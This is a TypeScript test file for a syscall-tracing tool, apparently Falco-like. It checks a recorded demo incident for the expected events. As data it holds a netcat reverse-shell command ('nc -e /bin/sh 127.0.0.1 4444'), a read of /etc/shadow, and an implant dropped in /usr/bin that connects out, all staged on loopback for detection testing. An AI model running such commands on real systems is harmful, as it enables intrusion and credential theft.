import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { openTrace } from '../../src/trace/reader.js';
import { batchEvents } from '../../src/trace/rows.js';
import type { TraceEvent } from '../../src/trace/event.js';
import { PPM_EXE, PPM_O } from '../../src/trace/flags.js';
import { ROOT, tsfalco } from '../helpers/cli.js';

/**
 * fixtures/demo.arrow is a real capture (fixtures/record-demo.sh runs fixtures/demo-story.sh under
 * `tsfalco capture --only-command`): cat reads /etc/shadow, nc hands a shell to a listener on
 * 127.0.0.1:4444 that runs id and uname, an implant is written below /usr/bin, run (it connects
 * to 127.0.0.2:6667) and removed.
 */

const DEMO = join(ROOT, 'fixtures/demo.arrow');

function demoEvents(): TraceEvent[] {
  const trace = openTrace(DEMO);
  const out: TraceEvent[] = [];
  for (const batch of trace.batches()) out.push(...batchEvents(batch));
  trace.close();
  return out;
}

const isSyscall = (e: TraceEvent) => !e.type.startsWith('snapshot_') && e.type !== 'capture_stats';

describe('the demo fixture (a real capture)', () => {
  const events = demoEvents();
  const exec = (comm: string) => events.find((e) => e.type === 'execve' && e.res === 0n && e.comm === comm)!;
  const story = events.find((e) => e.type === 'execve' && e.res === 0n && e.args?.[0] === 'fixtures/demo-story.sh')!;

  it('was written by tsfalco capture, with a snapshot first and statistics without drops', () => {
    const trace = openTrace(DEMO);
    expect(trace.metadata.source).toBe('capture');
    expect(trace.metadata.capture).toMatchObject({ events: 'default', only_command: true, command: ['sh', 'fixtures/demo-story.sh'] });
    trace.close();
    expect(events[0].type).toBe('snapshot_machine');
    expect(events.some((e) => e.type === 'snapshot_proc' && e.pid === 1)).toBe(true);
    expect(events.some((e) => e.type === 'snapshot_user' && e.name === 'root')).toBe(true);
    const total = events.filter((e) => e.type === 'capture_stats' && e.cpu === -1).pop()!;
    expect(total.n_drops).toBe(0n);
    expect(total.n_events).toBe(BigInt(events.filter(isSyscall).length));
    expect(events.filter(isSyscall).every((e) => e.dir === '<')).toBe(true);
  });

  it('holds the incident: /etc/shadow read, nc reverse shell, a write below /usr/bin, an outbound connection', () => {
    const cat = exec('cat');
    expect(cat).toMatchObject({ args: ['/etc/shadow'], exepath: '/usr/bin/cat', ppid: story.pid, euid: 0 });
    const shadow = events.find((e) => e.type === 'openat' && e.path === '/etc/shadow')!;
    expect(shadow).toMatchObject({ pid: cat.pid, comm: 'cat', dirfd: -100n, fd_type: 'file', flags: PPM_O.RDONLY });
    expect(shadow.res! >= 0n).toBe(true);

    const nc = exec('nc');
    expect(nc).toMatchObject({ args: ['-e', '/bin/sh', '127.0.0.1', '4444'], exepath: '/usr/bin/nc.traditional', ppid: story.pid });
    const connect = events.find((e) => e.type === 'connect' && e.pid === nc.pid && e.sock_family === 2)!;
    expect(connect).toMatchObject({ res: 0n, dip: '127.0.0.1', dport: 4444, sip: '127.0.0.1', l4proto: 6, fd_type: 'ipv4' });
    // nc.traditional -e: the socket becomes stdin, then stdin is copied to stdout and stderr.
    expect(events.some((e) => e.type === 'dup2' && e.pid === nc.pid && e.fd === connect.fd && e.fd2 === 0n && e.res === 0n)).toBe(true);
    expect(events.some((e) => e.type === 'dup2' && e.pid === nc.pid && e.fd === 0n && e.fd2 === 1n && e.res === 1n)).toBe(true);
    // nc execs the shell in place; the attacker's commands run as its children.
    const sh = events.find((e) => e.type === 'execve' && e.pid === nc.pid && e.comm === 'sh')!;
    expect(sh).toMatchObject({ path: '/bin/sh', exepath: '/usr/bin/dash' });
    expect(exec('id').ppid).toBe(nc.pid);
    expect(exec('uname')).toMatchObject({ args: ['-r'], ppid: nc.pid });

    const drop = events.find((e) => e.type === 'openat' && e.path === '/usr/bin/tsfalco-demo-implant' && e.pid === story.pid)!;
    expect(drop.flags).toBe(PPM_O.WRONLY | PPM_O.CREAT | PPM_O.TRUNC | PPM_O.F_CREATED);
    const implant = events.find((e) => e.type === 'execve' && e.res === 0n && e.path === '/usr/bin/tsfalco-demo-implant')!;
    expect(implant).toMatchObject({ comm: 'tsfalco-demo-im', exe: '/bin/bash', args: ['/usr/bin/tsfalco-demo-implant'] });
    expect(implant.exe_flags! & PPM_EXE.WRITABLE).toBe(PPM_EXE.WRITABLE);
    expect(events.find((e) => e.type === 'connect' && e.pid === implant.pid)).toMatchObject({ res: 0n, dip: '127.0.0.2', dport: 6667, l4proto: 6 });
    expect(events.find((e) => e.type === 'unlinkat' && e.path === '/usr/bin/tsfalco-demo-implant')).toMatchObject({ comm: 'rm', res: 0n });
  });

  it('trace info reports it', () => {
    const r = tsfalco(['trace', 'info', DEMO, '--json']);
    expect(r.status).toBe(0);
    const [info] = JSON.parse(r.stdout);
    expect(info).toMatchObject({ complete: true, format_version: '1.0', snapshots: 1, dropped_events: 0 });
    const syscalls = events.filter(isSyscall);
    expect(info.events).toBe(syscalls.length);
    expect(info.records).toBe(events.length);
    const byType = Object.fromEntries(info.events_by_type.map((t: { type: string; count: number }) => [t.type, t.count]));
    expect(byType.execve).toBe(syscalls.filter((e) => e.type === 'execve').length);
    const text = tsfalco(['trace', 'info', DEMO]);
    expect(text.stdout).toMatch(/│ \d+ +│ tsfalco-demo-im +│ \/usr\/bin\/bash +│/);
  });
});
